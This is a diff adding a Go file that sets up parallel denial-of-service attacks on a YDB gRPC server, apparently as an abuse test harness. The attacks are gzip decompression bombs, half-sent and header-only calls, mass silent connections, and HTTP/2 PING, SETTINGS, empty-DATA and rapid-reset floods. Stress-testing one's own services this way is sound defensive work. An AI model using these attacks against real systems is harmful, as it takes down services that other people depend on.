@@ -1,0 +1,122 @@
+//go:build linux
+
+package abuse
+
+import (
+	"context"
+	"net"
+
+	"golang.org/x/net/http2"
+)
+
+const (
+	directoryMethod = "/Ydb.Scheme.V1.SchemeService/MakeDirectory"
+	listMethod      = "/Ydb.Scheme.V1.SchemeService/ListDirectory"
+	loginMethod     = "/Ydb.Auth.V1.AuthService/Login"
+	sessionMethod   = "/Ydb.Coordination.V1.CoordinationService/Session"
+	watchMethod     = "/grpc.health.v1.Health/Watch"
+)
+
+// attack is what one goroutine does again and again until the context is done; it makes connections anew that are cut off.
+type attack struct {
+	name       string // as in the review, where it is from there
+	goroutines int
+	run        func(ctx context.Context, address string)
+}
+
+// onConnections has each goroutine work on one connection at a time.
+func onConnections(reads bool, each func(a *attacker) error) func(context.Context, string) {
+	return func(ctx context.Context, address string) {
+		for ctx.Err() == nil {
+			a, err := dial(address, reads)
+			if err != nil {
+				continue
+			}
+			stop := context.AfterFunc(ctx, func() { _ = a.Close() })
+			for each(a) == nil && ctx.Err() == nil {
+			}
+			stop()
+			_ = a.Close()
+		}
+	}
+}
+
+// silent has connections that say nothing, as many as one goroutine gets.
+func silent(first string) func(context.Context, string) {
+	return func(ctx context.Context, address string) {
+		var all []net.Conn
+		defer func() {
+			for _, conn := range all {
+				_ = conn.Close()
+			}
+		}()
+		for ctx.Err() == nil && len(all) < 3000 {
+			conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", address)
+			if err != nil {
+				continue
+			}
+			_, _ = conn.Write([]byte(first))
+			all = append(all, conn)
+		}
+		<-ctx.Done()
+	}
+}
+
+func attacks() []attack {
+	large := bomb(64_000_000)
+	fitting := bomb(4<<20 - 64)
+	half := make([]byte, 60<<10)
+	gzipped := []string{"grpc-encoding", "gzip"}
+	bombs := func(method, token string, packed []byte) func(a *attacker) error {
+		message := prefixed(1, len(packed), packed)
+		return func(a *attacker) error {
+			if err := a.call(method, token, gzipped...); err != nil {
+				return err
+			}
+			return a.say(message)
+		}
+	}
+	halves := func(method, token string, announced int) func(a *attacker) error {
+		message := prefixed(0, announced, half)
+		return func(a *attacker) error {
+			if err := a.call(method, token); err != nil {
+				return err
+			}
+			return a.say(message)
+		}
+	}
+	headers := func(method string, more ...string) func(a *attacker) error {
+		return func(a *attacker) error { return a.call(method, "", more...) }
+	}
+	var ping [8]byte
+	return []attack{
+		{"H1 gzip bombs of strangers", 20, onConnections(true, bombs(directoryMethod, "", large))},
+		{"H1 gzip bombs in logins", 20, onConnections(true, bombs(loginMethod, "", fitting))},
+		{"H1 gzip bombs of a user", 20, onConnections(true, bombs(directoryMethod, userToken, fitting))},
+		{"H1 gzip bombs on sessions", 20, onConnections(true, bombs(sessionMethod, userToken, fitting))},
+		{"H1 calls of headers only", 6, onConnections(true, headers(listMethod))},
+		{"H1 calls of headers only, with a deadline", 6, onConnections(true, headers(loginMethod, "grpc-timeout", "99999999H"))},
+		{"H1 half a message of strangers", 20, onConnections(true, halves(listMethod, "", 60_000_000))},
+		{"H1 half a login", 20, onConnections(true, halves(loginMethod, "", 1<<20))},
+		{"H1 half a message of a user", 20, onConnections(true, halves(directoryMethod, userToken, 1<<20))},
+		{"H1 Health.Watch", 6, onConnections(true, headers(watchMethod))},
+		{"H2 silent connections", 3, silent("")},
+		{"H2 connections with a preface only", 3, silent(http2.ClientPreface)},
+		{"held: PING flood", 2, onConnections(true, func(a *attacker) error { return a.framer.WritePing(false, ping) })},
+		{"held: SETTINGS flood", 2, onConnections(true, func(a *attacker) error { return a.framer.WriteSettings() })},
+		{"held: empty DATA flood", 2, onConnections(true, func(a *attacker) error {
+			if a.stream == 0 {
+				if err := a.call(listMethod, userToken); err != nil {
+					return err
+				}
+			}
+			return a.framer.WriteData(a.stream, false, nil)
+		})},
+		{"held: rapid reset", 2, onConnections(true, func(a *attacker) error {
+			if err := a.call(loginMethod, ""); err != nil {
+				return err
+			}
+			return a.framer.WriteRSTStream(a.stream, http2.ErrCodeCancel)
+		})},
+	}
+}
